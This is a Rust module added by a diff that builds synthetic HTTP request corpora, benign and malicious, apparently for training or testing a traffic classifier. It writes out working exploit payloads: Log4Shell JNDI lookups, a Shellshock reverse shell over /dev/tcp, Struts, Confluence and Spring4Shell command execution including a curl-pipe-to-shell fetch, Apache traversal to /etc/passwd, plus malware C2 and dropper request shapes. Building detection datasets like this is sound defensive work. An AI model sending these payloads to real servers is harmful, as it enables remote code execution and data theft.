@@ -1,0 +1,442 @@
+//! Plaintext HTTP/1.1 requests of every source the catalogue names: CSIC 2010 normal
+//! requests, real sites' query strings, ordinary site paths, attack payloads injected into
+//! parameters, paths, headers, cookies and bodies, scanners' probe paths, and built-in
+//! templates of known exploits (Log4Shell, Shellshock, Struts OGNL, ...) and malware
+//! check-ins.
+
+use std::collections::{BTreeSet, HashMap};
+use std::path::Path;
+
+use anyhow::{Context, Result, bail, ensure};
+use percent_encoding::{AsciiSet, CONTROLS, utf8_percent_encode};
+use rand::Rng;
+use rand::seq::IndexedRandom;
+
+use crate::config::{Catalogue, HttpSource, Injection};
+
+/// Characters a client escapes in a query value or path segment.
+const ESCAPE: &AsciiSet = &CONTROLS
+    .add(b' ')
+    .add(b'"')
+    .add(b'#')
+    .add(b'<')
+    .add(b'>')
+    .add(b'`')
+    .add(b'{')
+    .add(b'}')
+    .add(b'|')
+    .add(b'\\')
+    .add(b'^')
+    .add(b'&')
+    .add(b'=')
+    .add(b'+')
+    .add(b'%')
+    .add(b'?')
+    .add(b'/')
+    .add(b';')
+    .add(b'\'');
+
+/// Browsers, tools and libraries: every class draws from all of them (attackers mostly
+/// pretend to be browsers; benign scripts use curl or python).
+pub const USER_AGENTS: &[&str] = &[
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+    "curl/7.88.1",
+    "python-requests/2.31.0",
+    "Go-http-client/1.1",
+    "okhttp/4.12.0",
+    "Wget/1.21.3",
+];
+
+/// Tool user agents that some attacks keep (others hide behind browser strings).
+const TOOL_AGENTS: &[&str] = &["sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "masscan/1.3", "zgrab/0.x"];
+
+/// Ordinary paths of web sites.
+const SITE_PATHS: &[&str] = &[
+    "/", "/index.html", "/about", "/contact", "/products", "/products/item", "/blog", "/blog/2024/05/release-notes",
+    "/search", "/login", "/account", "/cart", "/checkout", "/api/v1/items", "/api/v2/users/me", "/news", "/help/faq",
+    "/static/css/site.css", "/static/js/app.js", "/static/js/vendor.min.js", "/images/logo.png", "/images/hero.jpg",
+    "/fonts/inter.woff2", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/feed.xml", "/docs/getting-started",
+    "/wp-content/themes/site/style.css", "/assets/app-4f3a9c.js", "/downloads", "/en/support", "/de/produkte",
+];
+
+/// Parameter names seen on ordinary sites.
+const PARAM_NAMES: &[&str] = &["id", "q", "page", "user", "name", "search", "cat", "item", "lang", "redirect", "file", "sort", "ref", "token", "email"];
+
+/// One plaintext request: its bytes and a kind of answer.
+#[derive(Clone, Debug)]
+pub struct Request {
+    /// The request as sent.
+    pub bytes: Vec<u8>,
+}
+
+/// Loaded request sources.
+pub struct HttpCorpus {
+    csic: Vec<(String, String, String)>,
+    queries: Vec<String>,
+    payloads: HashMap<String, Vec<String>>,
+    probes: HashMap<String, Vec<String>>,
+}
+
+fn read_lines(data: &Path, patterns: &[String]) -> Result<Vec<String>> {
+    let mut set = BTreeSet::new();
+    for pat in patterns {
+        let full = data.join(pat);
+        let mut matched = 0;
+        for entry in glob::glob(&full.to_string_lossy()).with_context(|| format!("glob {pat}"))? {
+            let path = entry?;
+            let bytes = std::fs::read(&path).with_context(|| format!("reading {}", path.display()))?;
+            for line in String::from_utf8_lossy(&bytes).lines() {
+                let line = line.trim_end_matches('\r');
+                if !line.trim().is_empty() && line.len() <= 2048 {
+                    set.insert(line.to_owned());
+                }
+            }
+            matched += 1;
+        }
+        ensure!(matched > 0, "no file matches {}", full.display());
+    }
+    Ok(set.into_iter().collect())
+}
+
+fn params_rows(data: &Path, attack_type: &str) -> Result<Vec<String>> {
+    let path = data.join("http_params_dataset/payload_full.csv");
+    let mut rdr = csv::Reader::from_path(&path).with_context(|| format!("reading {}", path.display()))?;
+    let mut out = Vec::new();
+    for row in rdr.records() {
+        let row = row?;
+        if row.get(2) == Some(attack_type)
+            && let Some(p) = row.get(0)
+        {
+            out.push(p.to_owned());
+        }
+    }
+    ensure!(!out.is_empty(), "no rows of attack_type {attack_type} in {}", path.display());
+    Ok(out)
+}
+
+impl HttpCorpus {
+    /// Loads what the families of `cat` use from the shared data directory.
+    pub fn load(cat: &Catalogue, data: &Path, families: &BTreeSet<String>) -> Result<Self> {
+        let mut corpus = Self { csic: Vec::new(), queries: Vec::new(), payloads: HashMap::new(), probes: HashMap::new() };
+        for f in cat.family.iter().filter(|f| families.contains(&f.name)) {
+            match &f.http {
+                Some(HttpSource::Csic) if corpus.csic.is_empty() => corpus.csic = load_csic(data)?,
+                Some(HttpSource::Queries) if corpus.queries.is_empty() => {
+                    let path = data.join("modsec_learn_queries/legitimate_openappsec_part6.json");
+                    let text = std::fs::read_to_string(&path).with_context(|| format!("reading {}", path.display()))?;
+                    let all: Vec<String> = serde_json::from_str(&text).with_context(|| format!("parsing {}", path.display()))?;
+                    corpus.queries = all.into_iter().filter(|q| q.len() <= 1500).collect::<BTreeSet<_>>().into_iter().collect();
+                }
+                Some(HttpSource::Payloads { files, params_attack_type, .. }) => {
+                    let mut lines = read_lines(data, files)?;
+                    if let Some(t) = params_attack_type {
+                        lines.extend(params_rows(data, t)?);
+                    }
+                    corpus.payloads.insert(f.name.clone(), lines);
+                }
+                Some(HttpSource::Probes { files }) => {
+                    let lines = read_lines(data, files)?
+                        .into_iter()
+                        .map(|l| if l.starts_with('/') { l } else { format!("/{l}") })
+                        .filter(|l| !l.contains(' '))
+                        .collect();
+                    corpus.probes.insert(f.name.clone(), lines);
+                }
+                Some(HttpSource::Template { name }) => {
+                    ensure!(TEMPLATES.contains(&name.as_str()), "family {}: unknown template {name}", f.name);
+                }
+                _ => {}
+            }
+        }
+        Ok(corpus)
+    }
+
+    /// Builds one request of `source` for family `family`.
+    pub fn request<R: Rng>(&self, rng: &mut R, family: &str, source: &HttpSource, host: &str) -> Result<Request> {
+        let ua = pick_agent(rng, false);
+        let mut headers: Vec<(String, String)> = Vec::new();
+        let (method, target, body) = match source {
+            HttpSource::Csic => {
+                let (m, t, b) = self.csic.choose(rng).context("CSIC corpus is empty")?;
+                (m.clone(), t.clone(), b.clone())
+            }
+            HttpSource::Queries => {
+                let q = self.queries.choose(rng).context("query corpus is empty")?;
+                let path = SITE_PATHS.choose(rng).copied().unwrap_or("/");
+                ("GET".to_owned(), format!("{path}?{q}"), String::new())
+            }
+            HttpSource::Assets => ("GET".to_owned(), asset_path(rng), String::new()),
+            HttpSource::Payloads { inject, .. } => {
+                let p = self.payloads.get(family).and_then(|v| v.choose(rng)).context("payload corpus is empty")?;
+                let place = *inject.choose(rng).context("no injection place")?;
+                inject_payload(rng, p, place, &mut headers)
+            }
+            HttpSource::Probes { .. } => {
+                let p = self.probes.get(family).and_then(|v| v.choose(rng)).context("probe corpus is empty")?;
+                ("GET".to_owned(), p.clone(), String::new())
+            }
+            HttpSource::Template { name } => template(rng, name, &mut headers)?,
+        };
+        let ua = if matches!(source, HttpSource::Payloads { .. } | HttpSource::Probes { .. }) && rng.random_bool(0.25) {
+            TOOL_AGENTS.choose(rng).copied().unwrap_or(ua)
+        } else {
+            ua
+        };
+        Ok(Request { bytes: assemble(rng, &method, &target, host, ua, &headers, &body) })
+    }
+}
+
+fn load_csic(data: &Path) -> Result<Vec<(String, String, String)>> {
+    let path = data.join("csic2010_train/normalTrafficTraining.parsed.csv");
+    let mut rdr = csv::Reader::from_path(&path).with_context(|| format!("reading {}", path.display()))?;
+    let mut out = Vec::new();
+    for row in rdr.records() {
+        let row = row?;
+        let (Some(method), Some(url), Some(body)) = (row.get(2), row.get(3), row.get(5)) else { continue };
+        // "http://localhost:8080/tienda1/..." -> "/tienda1/..."
+        let target = url.find("://").and_then(|i| url[i + 3..].find('/').map(|j| &url[i + 3 + j..])).unwrap_or(url);
+        if target.starts_with('/') && !target.contains(' ') {
+            out.push((method.to_owned(), target.to_owned(), body.to_owned()));
+        }
+    }
+    ensure!(!out.is_empty(), "no requests in {}", path.display());
+    Ok(out)
+}
+
+/// A user agent: browsers most of the time.
+pub fn pick_agent<R: Rng>(rng: &mut R, scripted: bool) -> &'static str {
+    if scripted || rng.random_bool(0.2) { USER_AGENTS[5 + rng.random_range(0..5)] } else { USER_AGENTS[rng.random_range(0..5)] }
+}
+
+fn asset_path<R: Rng>(rng: &mut R) -> String {
+    let base = SITE_PATHS.choose(rng).copied().unwrap_or("/");
+    if rng.random_bool(0.3) {
+        let name = PARAM_NAMES.choose(rng).copied().unwrap_or("id");
+        format!("{base}?{name}={}", rng.random_range(1..100_000))
+    } else {
+        base.to_owned()
+    }
+}
+
+fn enc(s: &str) -> String {
+    utf8_percent_encode(s, ESCAPE).to_string()
+}
+
+/// Header-safe text: no control characters.
+fn header_safe(s: &str) -> String {
+    s.chars().filter(|c| !c.is_control()).collect()
+}
+
+fn inject_payload<R: Rng>(rng: &mut R, payload: &str, place: Injection, headers: &mut Vec<(String, String)>) -> (String, String, String) {
+    let path = SITE_PATHS.choose(rng).copied().unwrap_or("/");
+    let param = PARAM_NAMES.choose(rng).copied().unwrap_or("id");
+    match place {
+        Injection::Query => ("GET".to_owned(), format!("{path}?{param}={}", enc(payload)), String::new()),
+        Injection::Path => {
+            // Traversal payloads already carry their own slashes and encodings.
+            let raw: String = payload.chars().filter(|c| !c.is_control() && *c != ' ').collect();
+            let seg = if raw.contains("..") || raw.starts_with('/') { raw } else { enc(payload) };
+            let sep = if seg.starts_with('/') { "" } else { "/" };
+            ("GET".to_owned(), format!("/files{sep}{seg}"), String::new())
+        }
+        Injection::Header => {
+            let name = ["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version"].choose(rng).copied().unwrap_or("Referer");
+            headers.push((name.to_owned(), header_safe(payload)));
+            ("GET".to_owned(), path.to_owned(), String::new())
+        }
+        Injection::Body => {
+            headers.push(("Content-Type".to_owned(), "application/x-www-form-urlencoded".to_owned()));
+            ("POST".to_owned(), path.to_owned(), format!("{param}={}&submit=1", enc(payload)))
+        }
+        Injection::Cookie => {
+            headers.push(("Cookie".to_owned(), format!("session={}; {param}={}", rng.random_range(100_000..999_999), enc(payload))));
+            ("GET".to_owned(), path.to_owned(), String::new())
+        }
+    }
+}
+
+/// Built-in request templates.
+pub const TEMPLATES: &[&str] = &[
+    "log4shell",
+    "shellshock",
+    "phpunit_eval",
+    "struts_ognl",
+    "apache_traversal",
+    "confluence_ognl",
+    "spring4shell",
+    "c2_gate",
+    "c2_beacon_get",
+    "dropper_get",
+];
+
+fn rand_token<R: Rng>(rng: &mut R, len: usize) -> String {
+    const ALPHA: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
+    (0..len).map(|_| ALPHA[rng.random_range(0..ALPHA.len())] as char).collect()
+}
+
+fn template<R: Rng>(rng: &mut R, name: &str, headers: &mut Vec<(String, String)>) -> Result<(String, String, String)> {
+    let cb = format!("198.19.{}.{}", rng.random_range(1..250), rng.random_range(1..250));
+    Ok(match name {
+        "log4shell" => {
+            let lookups = ["${jndi:ldap://CB/a}", "${jndi:rmi://CB:1099/Exploit}", "${${lower:j}ndi:${lower:l}dap://CB/x}", "${${::-j}${::-n}${::-d}${::-i}:ldap://CB/o}", "${jndi:dns://CB/q}"];
+            let l = lookups.choose(rng).copied().unwrap_or("${jndi:ldap://CB/a}").replace("CB", &cb);
+            let where_ = rng.random_range(0..3);
+            match where_ {
+                0 => {
+                    headers.push(("User-Agent".to_owned(), l));
+                    ("GET".to_owned(), "/".to_owned(), String::new())
+                }
+                1 => {
+                    headers.push(("X-Api-Version".to_owned(), l));
+                    ("GET".to_owned(), "/api/v1/status".to_owned(), String::new())
+                }
+                _ => ("GET".to_owned(), format!("/search?q={}", enc(&l)), String::new()),
+            }
+        }
+        "shellshock" => {
+            let cmds = ["/bin/bash -c 'cat /etc/passwd'", "/usr/bin/id", "/bin/bash -i >& /dev/tcp/CB/4444 0>&1", "/bin/echo vulnerable"];
+            let cmd = cmds.choose(rng).copied().unwrap_or("/usr/bin/id").replace("CB", &cb);
+            let header = ["User-Agent", "Referer", "Cookie"].choose(rng).copied().unwrap_or("User-Agent");
+            headers.push((header.to_owned(), format!("() {{ :; }}; echo; {cmd}")));
+            let path = ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/admin.cgi", "/cgi-bin/bash"].choose(rng).copied().unwrap_or("/cgi-bin/test.cgi");
+            ("GET".to_owned(), path.to_owned(), String::new())
+        }
+        "phpunit_eval" => {
+            let prefix = ["", "/vendor", "/laravel/vendor", "/lib/vendor", "/app/vendor"].choose(rng).copied().unwrap_or("");
+            let body = ["<?php echo md5(\"phpunit\"); ?>", "<?php system('id'); ?>", "<?php echo(php_uname()); ?>"].choose(rng).copied().unwrap_or("<?php phpinfo(); ?>");
+            headers.push(("Content-Type".to_owned(), "text/html".to_owned()));
+            ("POST".to_owned(), format!("{prefix}/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), body.to_owned())
+        }
+        "struts_ognl" => {
+            let cmd = ["id", "whoami", "cat /etc/passwd"].choose(rng).copied().unwrap_or("id");
+            headers.push((
+                "Content-Type".to_owned(),
+                format!("%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{cmd}').(#p=new java.lang.ProcessBuilder({{'/bin/sh','-c',#cmd}})).(#p.start())}}"),
+            ));
+            let path = ["/struts2-showcase/index.action", "/index.action", "/login.action", "/upload.action"].choose(rng).copied().unwrap_or("/index.action");
+            ("POST".to_owned(), path.to_owned(), String::new())
+        }
+        "apache_traversal" => {
+            let t = ["/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "/icons/%%32%65%%32%65/%%32%65%%32%65/etc/hosts"];
+            let path = t.choose(rng).copied().unwrap_or(t[0]);
+            if path.contains("bin/sh") {
+                ("POST".to_owned(), path.to_owned(), "echo Content-Type: text/plain; echo; id".to_owned())
+            } else {
+                ("GET".to_owned(), path.to_owned(), String::new())
+            }
+        }
+        "confluence_ognl" => {
+            let cmd = ["id", "uname -a", "curl CB/x.sh|sh"].choose(rng).copied().unwrap_or("id").replace("CB", &cb);
+            let expr = format!("${{(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"{cmd}\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}}");
+            ("GET".to_owned(), format!("/{}/", enc(&expr)), String::new())
+        }
+        "spring4shell" => {
+            headers.push(("Content-Type".to_owned(), "application/x-www-form-urlencoded".to_owned()));
+            headers.push(("suffix".to_owned(), "%>//".to_owned()));
+            headers.push(("c1".to_owned(), "Runtime".to_owned()));
+            let body = "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=";
+            ("POST".to_owned(), "/".to_owned(), body.to_owned())
+        }
+        "c2_gate" => {
+            let path = ["/gate.php", "/panel/gate.php", "/wp-content/plugins/api.php", "/index.php", "/submit.php", "/api/v1/update"].choose(rng).copied().unwrap_or("/gate.php");
+            let len = rng.random_range(40..600);
+            let blob = rand_token(rng, len);
+            headers.push(("Content-Type".to_owned(), ["application/octet-stream", "application/x-www-form-urlencoded"].choose(rng).copied().unwrap_or("application/octet-stream").to_owned()));
+            ("POST".to_owned(), path.to_owned(), blob)
+        }
+        "c2_beacon_get" => {
+            let path = ["/jquery-3.3.1.min.js", "/pixel.gif", "/updates.rss", "/ca", "/__utm.gif", "/submit.php", "/news.php"].choose(rng).copied().unwrap_or("/pixel.gif");
+            headers.push(("Cookie".to_owned(), format!("__cfduid={}", rand_token(rng, 64))));
+            ("GET".to_owned(), format!("{path}?id={}", rand_token(rng, 12)), String::new())
+        }
+        "dropper_get" => {
+            let len = rng.random_range(4..12);
+            let name = rand_token(rng, len);
+            let ext = [".exe", ".dll", ".bin", ".ps1", ".sh", ".jpg", ".dat", ".zip"].choose(rng).copied().unwrap_or(".bin");
+            let dir = ["/", "/files/", "/wp-content/uploads/2024/", "/tmp/", "/images/", "/download/"].choose(rng).copied().unwrap_or("/");
+            ("GET".to_owned(), format!("{dir}{name}{ext}"), String::new())
+        }
+        other => bail!("unknown template {other}"),
+    })
+}
+
+/// Serialises a request; `Content-Length` when there is a body.
+fn assemble<R: Rng>(rng: &mut R, method: &str, target: &str, host: &str, ua: &str, extra: &[(String, String)], body: &str) -> Vec<u8> {
+    let mut s = format!("{method} {target} HTTP/1.1\r\nHost: {host}\r\n");
+    let overrides_ua = extra.iter().any(|(k, _)| k == "User-Agent");
+    if !overrides_ua {
+        s.push_str(&format!("User-Agent: {ua}\r\n"));
+    }
+    s.push_str("Accept: */*\r\n");
+    if rng.random_bool(0.5) {
+        s.push_str("Accept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\n");
+    }
+    for (k, v) in extra {
+        s.push_str(&format!("{k}: {v}\r\n"));
+    }
+    if !body.is_empty() || method == "POST" {
+        s.push_str(&format!("Content-Length: {}\r\n", body.len()));
+    }
+    s.push_str("Connection: keep-alive\r\n\r\n");
+    s.push_str(body);
+    s.into_bytes()
+}
+
+/// An encrypted flow's request: an HTTP-looking request padded to `size` bytes (only its
+/// length is visible on the wire).
+pub fn padded_request(size: usize) -> Vec<u8> {
+    let mut v = b"POST /api HTTP/1.1\r\nHost: x\r\n\r\n".to_vec();
+    v.resize(size.max(v.len()), b'a');
+    v.truncate(size.max(1));
+    v
+}
+
+#[cfg(test)]
+mod tests {
+    use rand::SeedableRng;
+
+    use super::*;
+
+    #[test]
+    fn templates_parse_as_http() {
+        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(7);
+        for name in TEMPLATES {
+            for _ in 0..20 {
+                let mut headers = Vec::new();
+                let (m, t, b) = template(&mut rng, name, &mut headers).unwrap();
+                let bytes = assemble(&mut rng, &m, &t, "h.test", "ua", &headers, &b);
+                let mut hs = [httparse::EMPTY_HEADER; 32];
+                let mut req = httparse::Request::new(&mut hs);
+                let status = req.parse(&bytes).unwrap_or_else(|e| panic!("{name}: {e}: {}", String::from_utf8_lossy(&bytes)));
+                assert!(status.is_complete(), "{name}");
+            }
+        }
+        assert!(template(&mut rng, "nope", &mut Vec::new()).is_err());
+    }
+
+    #[test]
+    fn injected_payloads_stay_one_request() {
+        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(1);
+        let payload = "' OR 1=1 --\r\nX-Evil: 1 <script>alert(1)</script>";
+        for place in [Injection::Query, Injection::Path, Injection::Header, Injection::Body, Injection::Cookie] {
+            let mut headers = Vec::new();
+            let (m, t, b) = inject_payload(&mut rng, payload, place, &mut headers);
+            let bytes = assemble(&mut rng, &m, &t, "h.test", "ua", &headers, &b);
+            let mut hs = [httparse::EMPTY_HEADER; 32];
+            let mut req = httparse::Request::new(&mut hs);
+            assert!(req.parse(&bytes).unwrap().is_complete(), "{place:?}");
+            assert!(!req.headers.iter().any(|h| h.name == "X-Evil"), "{place:?}: header injection escaped");
+        }
+    }
+
+    #[test]
+    fn padded_requests_have_the_asked_size() {
+        for n in [1, 10, 40, 5000] {
+            assert_eq!(padded_request(n).len(), n);
+        }
+    }
+}
